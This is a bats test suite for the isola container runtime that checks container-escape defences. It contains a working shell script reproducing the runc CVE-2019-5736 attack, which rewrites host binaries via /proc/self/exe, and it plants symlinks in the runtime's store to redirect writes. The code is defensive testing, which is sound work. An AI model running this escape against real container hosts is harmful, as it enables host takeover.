#!/usr/bin/env bats
# Hostile containers that try to reach the host through isola itself.  Each test runs against copies of the
# binaries in its own directory, so that an attack that works damages the copies, never the build.

# shellcheck disable=SC2154 # status, output and stderr are set by bats' run
load helpers

# shellcheck disable=SC2034
ISOLA_TIMEOUT=${ISOLA_CONTAINER_TIMEOUT:-60}

setup_file() { container_setup_file; }
teardown_file() { container_teardown_file; }
setup() {
  container_setup
  # The binaries under test, copied with the helpers they find beside themselves (monitor, init, agent, VM files).
  # Always the release build: the ASan one is linked dynamically and cannot run inside a busybox container, so
  # the attack would find nothing to catch; and sanitizer builds run from their file (base/sealed_exe.h).
  BIN=$BATS_TEST_TMPDIR/bin
  local dir=$REPO/build
  ISOLA=$dir/isola
  mkdir -p "$BIN"
  cp "$ISOLA" "$BIN/isola"
  cp "$dir/isola-monitor" "$dir/isola-init" "$BIN/"
  [ ! -e "$dir/isola-agent" ] || cp "$dir/isola-agent" "$BIN/"
  [ ! -d "$dir/vm" ] || cp -r "$dir/vm" "$BIN/"
  ISOLA=$BIN/isola
  SUMS=$(sha256sum "$BIN"/isola*)
}
teardown() { container_teardown; }

# A container ID for the bait store below.
BAIT_ID=$(printf '%064d' 7)

# The watcher of runc's CVE-2019-5736: from the moment /tmp/go exists, it waits for a process whose executable is
# not the image's busybox (isola's monitor, which runs an exec's command, or the guest's agent) to appear in the
# container, holds its /proc/PID/exe open, kills it, and once that process is gone tries to append to it for 8 s.
# It notes what it caught in /tmp/caught, each write that worked in /tmp/pwned, and that it is over in /tmp/done.
# The bait keeps what runs as `sh` alive long enough to be caught: run as `sh /bait ID 0`, isola-monitor opens a
# store at /bait and waits there to read the record, a FIFO, of container ID.
# shellcheck disable=SC2016 # the script runs in the container
WATCHER='
/bin/busybox rm -f /bin/sh && /bin/busybox ln -s /proc/self/exe /bin/sh
for d in blobs/sha256 snapshots images mounts tmp containers/'"$BAIT_ID"'; do /bin/busybox mkdir -p /bait/$d; done
/bin/busybox chmod -R 700 /bait && /bin/busybox mkfifo /bait/containers/'"$BAIT_ID"'/config.json
while [ ! -e /tmp/go ]; do /bin/busybox usleep 20000; done
while :; do
  for e in /proc/[0-9]*/exe; do
    t=$(/bin/busybox readlink "$e" 2>/dev/null) || continue
    case $t in /bin/busybox) continue ;; esac
    exec 3<"$e" || continue
    echo "$t" >/tmp/caught
    p=${e#/proc/}
    /bin/busybox kill -9 "${p%/exe}"
    i=0
    while [ $i -lt 80 ]; do
      if (echo EVIL >>/proc/self/fd/3) 2>/dev/null; then echo "$i" >>/tmp/pwned; fi
      /bin/busybox usleep 100000
      i=$((i + 1))
    done
    echo over >/tmp/done
    exec /bin/busybox sleep 1000
  done
  /bin/busybox usleep 20000
done'

# exec_attack MODE: the attack against `isola exec`, in a container of that isolation mode.
exec_attack() {
  run_detached --isolation="$1" --name victim busybox /bin/busybox sh -c "$WATCHER"
  # the watcher has made /bin/sh the link before anything execs it, and watches from /tmp/go on, so that what it
  # catches is the exec below, not the execs that check on it
  local i
  for i in $(seq 1 200); do
    [ "$(isola exec victim /bin/busybox readlink /bin/sh)" = /proc/self/exe ] && break
    sleep 0.1
  done
  isola exec victim /bin/busybox touch /tmp/go
  # `sh` is now /proc/self/exe in the container: the exec runs whatever execs the command (see the bait above)
  isola exec victim sh /bait "$BAIT_ID" 0 >"$BATS_TEST_TMPDIR/exec.out" 2>&1 || true
  for i in $(seq 1 200); do
    isola exec victim /bin/busybox test -e /tmp/done && break
    sleep 0.1
  done
}

@test "escape: a container cannot rewrite the host's isola through an exec of /proc/self/exe (CVE-2019-5736)" {
  only_isolation process "the attack needs the exec'd command to run on the host's kernel"
  exec_attack process
  run isola exec victim /bin/busybox cat /tmp/caught
  assert_status 0
  # the attack did catch isola's executable in the container, and what it caught is a sealed copy: the file on the
  # host it would write once no process runs from it any more (the monitor runs from it for as long as the
  # container does, so the writes below cannot show that alone)
  assert_output_contains "isola"
  assert_output_matches '^/memfd:'
  run isola exec victim /bin/busybox cat /tmp/done
  assert_equal "$output" over
  run isola exec victim /bin/busybox cat /tmp/pwned
  [ "$status" -ne 0 ] || fail "writes to what the container caught worked (after attempts: $output)"
  assert_equal "$(sha256sum "$BIN"/isola*)" "$SUMS"
}

@test "escape: in a VM container the same attack reaches neither the host's binaries nor the agent's" {
  only_isolation vm "the process-mode case is the test above"
  exec_attack vm
  # the agent, run as the container's `sh`, refuses to be anything but the guest's init, unless the watcher caught
  # it and killed it (kill -9) before it could say so
  if ! grep -q "runs only as the guest's init" "$BATS_TEST_TMPDIR/exec.out"; then
    run isola exec victim /bin/busybox cat /tmp/caught
    [ "$status" -eq 0 ] && [ -n "$output" ] || fail "the exec of sh: $(cat "$BATS_TEST_TMPDIR/exec.out")"
  fi
  run isola exec victim /bin/busybox cat /tmp/pwned
  [ "$status" -ne 0 ] || fail "writes to what the container caught worked (after attempts: $output)"
  assert_equal "$(sha256sum "$BIN"/isola*)" "$SUMS"
}

@test "escape: a VM container whose command is /proc/self/exe (the guest's agent, as the container's PID 1) ends" {
  only_isolation vm "in process mode /proc/self/exe is the sealed monitor, which refuses at once (tests above)"
  # PID 1 of the container's PID namespace passed the agent's "only the guest's init" test, failed to set up a
  # guest, and paused for good when its reboot was refused: the container stayed up
  run --separate-stderr isola run --rm --name selfexe busybox /proc/self/exe
  assert_status 1
  assert_stderr_matches '^isola-agent: '
  assert_equal "$(isola ps -aq --filter name=selfexe)" ""
}

@test "escape: a store root another user can write to is refused before isola touches it (tmp swapped for a symlink)" {
  only_isolation process "the store is the same in both modes"
  local victim=$BATS_TEST_TMPDIR/victim root=$BATS_TEST_TMPDIR/userroot
  mkdir -p "$victim" "$root"
  echo precious >"$victim/file"
  cp -a "$ISOLA_ROOT/." "$root/"
  chown nobody "$root"
  # what nobody, as its owner, can do to it: ROOT/tmp becomes a symlink to a directory of root's (done here as root,
  # since nobody cannot reach the test's directory)
  rm -rf "$root/tmp"
  ln -s "$victim" "$root/tmp"
  run --separate-stderr isola --root "$root" run --rm busybox true
  assert_status 125
  [[ $stderr == *"refusing the store root"*"another user owns it"* ]] || fail "stderr: $stderr"
  assert_equal "$(cat "$victim/file")" precious
  chown root "$root"
  run --separate-stderr isola --root "$root" images
  [[ $stderr == *"tmp"*"not a directory"* ]] || fail "a root whose tmp is a symlink: $stderr"
  rm -rf "$root"
}

# ---- symlinks planted in the store --------------------------------------------------------------------------------
# Only root can enter the store (a local user cannot: the root is 0700 and refused otherwise); these are what an
# attacker with a way in would try, and isola must never read or write through them.

# victims: a directory outside the store with files that must stay as they are, in VICTIM.
victims() {
  VICTIM=$BATS_TEST_TMPDIR/victim
  mkdir -p "$VICTIM"
  local f
  for f in name hostname hosts resolv.conf qemu.log; do echo precious >"$VICTIM/$f"; done
  VICTIM_SUM=$(victim_listing)
}

# victim_listing: names, sizes and modification times (to the nanosecond) of what is in VICTIM, and the contents of
# its small files (not ls's "total": a sparse VM disk's allocated blocks change by themselves after a copy).
victim_listing() {
  (cd "$VICTIM" && find . -mindepth 1 -maxdepth 1 -printf '%P %y %s %T@\n' | sort && cat ./*.json ./name 2>/dev/null) || true
}

assert_victims_untouched() {
  assert_equal "$(victim_listing)" "$VICTIM_SUM"
}

@test "store symlinks: a running container's record files replaced by symlinks make isola write nothing through them" {
  victims
  run_detached --name sym busybox sh -c 'while :; do echo out; sleep 0.2; done'
  local d=$ISOLA_ROOT/containers/$CID f
  # files isola writes (name, the /etc files, qemu.log) point at existing files; the log and lock at new ones
  for f in name hostname hosts resolv.conf qemu.log; do
    rm -f "$d/$f"
    ln -s "$VICTIM/$f" "$d/$f"
  done
  rm -f "$d/ctr.log"
  ln -s "$VICTIM/new-log" "$d/ctr.log"
  run --separate-stderr isola rename sym sym2
  assert_status 0
  # a new run opens the log again: refused, with the reason, never through the symlink
  run --separate-stderr isola restart -t 1 sym2
  [[ $stderr == *"ctr.log"*"symbolic links"* ]] || [ "$status" -eq 0 ] || fail "restart: $status $stderr"
  run --separate-stderr isola stop -t 1 sym2
  rm -f "$d/ctr.log" "$d/running.lock"
  ln -s "$VICTIM/new-lock" "$d/running.lock"
  run --separate-stderr isola start sym2
  run --separate-stderr isola logs sym2
  refute_output_contains precious
  run --separate-stderr isola rm -f sym2
  assert_status 0
  [ ! -e "$d" ] || fail "the container's directory is still there"
  assert_victims_untouched
  [ ! -e "$VICTIM/new-log" ] || fail "the container's output went through the ctr.log symlink: $(head -3 "$VICTIM/new-log")"
  [ ! -e "$VICTIM/new-lock" ] || fail "running.lock was created through its symlink"
}

@test "store symlinks: a container directory replaced by a symlink is not a container: nothing read or written through it" {
  victims
  run_detached --name symd busybox sleep 1000
  local id=$CID d=$ISOLA_ROOT/containers/$CID
  isola_ok stop -t 0 symd
  # a copy of the record outside the store, and the container's directory swapped for a symlink to it
  cp -a "$d/." "$VICTIM/"
  VICTIM_SUM=$(victim_listing)
  mv "$d" "$ISOLA_ROOT/containers/.kept"
  ln -s "$VICTIM" "$d"
  run --separate-stderr isola ps -aq --no-trunc
  assert_status 0
  refute_output_contains "$id"
  run --separate-stderr isola start "$id"
  assert_status 1
  assert_stderr_matches "No such container"
  run --separate-stderr isola rm -f symd
  assert_status 1
  # the name is free: the symlink holds nothing
  run_detached --name symd busybox true
  assert_equal "$(victim_listing)" "$VICTIM_SUM"
  rm "$d"
  mv "$ISOLA_ROOT/containers/.kept" "$d"
  isola_ok rm -f "$id"
}
